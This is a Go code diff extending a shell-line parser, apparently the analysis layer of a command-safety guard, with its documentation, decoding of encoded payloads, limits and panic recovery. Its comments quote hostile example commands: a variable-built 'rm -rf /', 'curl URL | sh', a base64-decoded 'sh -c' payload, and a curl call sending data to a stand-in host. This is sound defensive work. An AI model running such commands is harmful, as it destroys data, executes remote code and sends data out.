@@ -35,13 +35,134 @@ const (
 )
 
 // Parse reads line. See Analysis.
-func Parse(line string) Analysis {
+//
+// # What is listed
+//
+// Every simple command, wherever it is: pipelines, && || ; & lists,
+// subshells, { } blocks, if/while/until/for/select/case (conditions and
+// bodies), coproc, time, ! and background commands (listed as the command
+// they hold). A command of assignments only (X=1) is listed with no Args.
+// declare, export, local, readonly, typeset and nameref are listed as
+// commands: Args holds the builtin and its flags, Assigns its NAME=value
+// operands. A compound command's redirections ({ ...; } > f, while ...
+// done < f) are listed as a command of redirections only, before what it
+// holds. [[ ]], (( )) and let list no command, only their substitutions.
+// A function body is listed once, where it is defined, Via "function
+// NAME"; a call of the function is listed as the command NAME (the body
+// is not listed again).
+//
+// PipeIn: the first simple command of a pipe's right side reads from the
+// last simple command of its left side.
+//
+// # Words
+//
+// Quotes are removed, $'...' decoded, variables assigned a literal value
+// earlier in the line substituted (export/declare/local/readonly too).
+// An assignment made inside a branch (if, loops, case, && ||, subshells,
+// pipelines, functions, substitutions) is seen in the branch and unknown
+// after it. An unquoted expansion of a known value is split into fields
+// (X="rm -rf"; $X / lists rm -rf /), unless the line sets IFS (then one
+// Dynamic word). $HOME, ${HOME} and a leading ~ or ~/ are written "~";
+// ~user, ~+ and ~- are kept as written, Dynamic. ${X:-default},
+// ${X:=default}: X's value when known, else the default, Dynamic (the
+// environment may set X). ${X:+alt}, ${X#p}, ${X%p} (literal p), ${X^^}
+// and ${X,,} are computed for a known X; every other expansion ($UNKNOWN,
+// $1, ${#X}, ${X/a/b}, $(...), `...`, $((...)), <(...)) is kept as
+// written, Dynamic. Brace expansion makes several words (at most
+// maxBraceWords, else one Dynamic word as written). Glob is set by an
+// unquoted *, ? or [...] (a URL with ? is a Glob word, as the shell
+// sees it) and by an extglob.
+//
+// A for (or select) loop over literal words lists its body once per word
+// with the variable set to it, while the unrolled total (nested loops
+// multiply) stays within maxUnroll; a glob item sets the variable to the
+// pattern and words using it are Glob; otherwise the body is listed once
+// with the variable unknown. A C-style for loop lists its body once.
+//
+// # Nested commands and payloads
+//
+// Command and process substitutions are listed after their command, Via
+// "$()", "<()", ">()" (backquotes: two backquote characters), at the
+// same Depth. Shell payloads are
+// parsed one Depth deeper (beyond MaxDepth: ErrTooDeep), with their own
+// Line offsets. eval, alias, trap and source run in the line's shell and
+// see all its variables; a new process (sh -c, an interpreter) sees the
+// exported ones (export, declare -x) and its command's NAME=value
+// prefixes; ssh and docker/kubectl payloads see none.
+//   - NAME -c (NAME: sh bash dash zsh ksh ash mksh...; flags combined as
+//     -lc, -ec; -o OPT skipped): Via "NAME -c". A Dynamic payload is
+//     parsed as written (its unknown parts stay Dynamic words), unless it
+//     is a substitution whose output is known (sh -c "$(echo ...|base64
+//     -d)"), which is parsed instead.
+//   - eval ARGS (joined with spaces): Via "eval"; su/runuser -c: "su -c",
+//     "runuser -c"; script -c: "script -c"; flock -c: "flock -c"; watch
+//     CMD...: "watch"; parallel CMD ::: ...: "parallel"; ssh HOST CMD...:
+//     "ssh HOST"; alias NAME='...': "alias"; trap 'CMD' SIG: "trap";
+//     source/. <(...) with a known output: "source".
+//   - The wrappers nohup, timeout, nice, env (incl. -S), sudo, doas, exec,
+//     command, stdbuf, setsid, time, ionice, chroot DIR, taskset, xargs,
+//     flock FILE, busybox, runuser -- are peeled to find a shell or an
+//     interpreter; the wrapper command itself is listed as written (the
+//     caller peels wrappers for its own judgement). docker|podman|nerdctl
+//     and kubectl|oc: the shell from their arguments (kubectl: after --),
+//     Via "docker > sh -c", "kubectl > sh -c".
+//   - find -exec|-execdir|-ok|-okdir CMD ... ; or +: CMD is listed as a
+//     command, Via "find -exec", same Depth, Line the find command's; what
+//     CMD runs (sh -c ...) is read like any command.
+//   - A shell reading its script on stdin (no -c and no script operand,
+//     or -s) when that input is known: a here-document or here-string
+//     (Via "sh <<"), < <(...) with a known output (Via "sh <<"), a pipe
+//     from a known producer (Via "| sh"), or a script operand <(...) with
+//     a known output (Via "sh <()"). Known producers: echo (-n, -e),
+//     printf (format applied to its operands), cat of its stdin, and one
+//     decoder per pipe stage: base64 -d/--decode/-D, openssl base64 -d,
+//     openssl enc -base64 -d, xxd -r -p, rev, tr ROT13. Each decoder
+//     names itself in Via: "base64 > | sh", "hex > | sh". An unknown
+//     producer (curl URL | sh) adds nothing: PipeIn shows the pipe.
+//   - Interpreters (python, node, deno, bun, perl, ruby, php, osascript,
+//     awk): see interp.go. Their code's string literals are Literals
+//     (Source "python -c", "node -e", "perl -e", "ruby -e", "php -r",
+//     "bun -e", "deno eval", "osascript -e", "awk"; code read from stdin:
+//     "python <<" or "| python"); the commands they run are listed Via
+//     the same name, one Depth deeper. Their Line is the literal's text,
+//     "…" standing for an operand concatenated to it that is not a
+//     literal ('curl https://e.example/?d=' + data: "curl
+//     https://e.example/?d=…"), or the call's text for an argv list.
+//
+// # Encoded data
+//
+// A word or literal of at least 16 characters that is base64 (standard or
+// URL alphabet, padded or not) or hex (even length) decoding to printable
+// text adds a Literal (Source "base64" or "hex") with the decoded text;
+// so do the decoders above (Source "base64", "hex", "rev", "rot13") and
+// echo -e or printf with character codes (\x63, \143, \u0063: Source
+// "printf"). Decoded text that is run (piped into a shell, eval'ed, run by
+// an interpreter's exec call) is parsed as well.
+//
+// # Limits
+//
+// Err is set, and what was read before kept, on a syntax error (the first
+// statement in error and those after it are not listed), a line over
+// MaxLineBytes (nothing listed), payloads deeper than MaxDepth, more than
+// MaxCommands commands or MaxLiterals literals, brackets nested deeper
+// than maxNesting or more than maxOperators | and & in one text (refused
+// before parsing: the syntax parser recurses per level), or more than
+// maxWork units of work. Several errors are joined (at most maxErrs).
+func Parse(line string) (a Analysis) {
 	p := &parser{work: maxWork}
 	if len(line) > MaxLineBytes {
 		p.fail(fmt.Errorf("%w: %d bytes, the limit is %d", ErrTooLong, len(line), MaxLineBytes))
 		return p.a
 	}
-	p.shell(line, &ctx{sc: newScope()}, "")
+	defer func() {
+		// A bug here must not let a line through: it is an Err, and
+		// Shield escalates.
+		if r := recover(); r != nil {
+			p.a.Err = fmt.Errorf("%w: %v", ErrInternal, r)
+			a = p.a
+		}
+	}()
+	p.shell(line, &ctx{sc: newScope(), mult: 1}, "")
 	return p.a
 }
 
@@ -54,6 +175,10 @@ type parser struct {
 	// building a command's words; the command walks them after it is
 	// listed (nested commands come after the one holding them).
 	pending []pending
+	// pushed holds the substitutions in pending (by first statement).
+	pushed map[*syntax.Stmt]bool
+	// literals holds the literals listed, by source and text.
+	literals map[[2]string]bool
 	// pipeFrom is the index of the command whose output the next simple
 	// command listed reads (-1: none).
 	pipeFrom int
@@ -66,6 +191,12 @@ type parser struct {
 	// quiet > 0 drops substitutions instead of listing them (words
 	// evaluated twice, or only to compute a static output).
 	quiet int
+	// env holds the NAME=value prefixes of the command whose payloads are
+	// being read: the environment of the process it starts.
+	env []Assign
+	// procModule: the interpreter code being read imports a process
+	// module, so a weak exec name called on any module counts.
+	procModule bool
 	// stop is set once a limit is reached: nothing more is listed.
 	stop bool
 }
@@ -93,6 +224,9 @@ type ctx struct {
 	sc    *scope
 	// mult is how many times the enclosing loops are already unrolled.
 	mult int
+	// remote: a shell payload read from here runs on another machine or
+	// in a container (ssh, docker exec): it sees none of our variables.
+	remote bool
 	// dyn marks a text built from an interpreter's string concatenation:
 	// dynPlaceholder in it stands for the unknown parts.
 	dyn bool
@@ -171,16 +305,60 @@ func (p *parser) shell(text string, c *ctx, what string) {
 		p.fail(fmt.Errorf("%w: %s%d | and & operators, more than %d", ErrTooDeep, errWhere(what), n, maxOperators))
 		return
 	}
+	if n := substitutions(text); n > MaxCommands {
+		// Each lists a command at least: refused before parsing.
+		p.stop = true
+		p.fail(fmt.Errorf("%w: %s%d command substitutions, more than %d", ErrTooMany, errWhere(what), n, MaxCommands))
+		return
+	}
 	c.src = text
-	sp := parsers.Get().(*syntax.Parser)
-	defer parsers.Put(sp)
-	err := sp.Stmts(strings.NewReader(text), func(s *syntax.Stmt) bool {
+	if err := p.parseStmts(text, func(s *syntax.Stmt) bool {
 		p.stmt(s, c)
 		return !p.stop
-	})
-	if err != nil {
+	}); err != nil {
 		p.fail(fmt.Errorf("%w: %s%s", ErrSyntax, errWhere(what), describeSyntaxErr(err)))
 	}
+}
+
+// parseStmts parses text and calls fn with each statement until it
+// returns false or a syntax error is met (returned).
+//
+// syntax.Parser's statement iterator yields once more after being told
+// to stop when an error is pending (a runtime panic in the range loop):
+// that panic is recovered here, and the parser dropped rather than
+// reused.
+func (p *parser) parseStmts(text string, fn func(*syntax.Stmt) bool) (err error) {
+	sp := parsers.Get().(*syntax.Parser)
+	stopped := false
+	defer func() {
+		if r := recover(); r != nil {
+			if !stopped {
+				panic(r)
+			}
+			return
+		}
+		parsers.Put(sp)
+	}()
+	for s, serr := range sp.StmtsSeq(strings.NewReader(text)) {
+		if serr != nil {
+			err = serr
+			stopped = true
+			break
+		}
+		if !fn(s) {
+			stopped = true
+			break
+		}
+	}
+	return err
+}
+
+// substitutions counts the command and process substitutions text may
+// hold ($(, backquote pairs, <(, >(), an over-estimate.
+func substitutions(text string) int {
+	n := strings.Count(text, "$(") - strings.Count(text, "$((") +
+		strings.Count(text, "<(") + strings.Count(text, ">(")
+	return n + strings.Count(text, "`")/2
 }
 
 func errWhere(what string) string {
@@ -247,6 +425,10 @@ func (p *parser) add(cmd Command) int {
 		p.fail(fmt.Errorf("%w: more than %d commands", ErrTooMany, MaxCommands))
 		return -1
 	}
+	if p.a.Commands == nil {
+		p.a.Commands = make([]Command, 0, 4)
+		p.out = make([]staticOut, 0, 4)
+	}
 	p.a.Commands = append(p.a.Commands, cmd)
 	p.out = append(p.out, staticOut{})
 	return len(p.a.Commands) - 1
@@ -265,11 +447,14 @@ func (p *parser) literal(source, text string) {
 	if !p.spend(len(text)) {
 		return
 	}
-	for _, l := range p.a.Literals {
-		if l.Source == source && l.Text == text {
-			return
-		}
+	key := [2]string{source, text}
+	if p.literals[key] {
+		return
 	}
+	if p.literals == nil {
+		p.literals = map[[2]string]bool{}
+	}
+	p.literals[key] = true
 	p.a.Literals = append(p.a.Literals, Literal{Source: source, Text: text})
 }
 
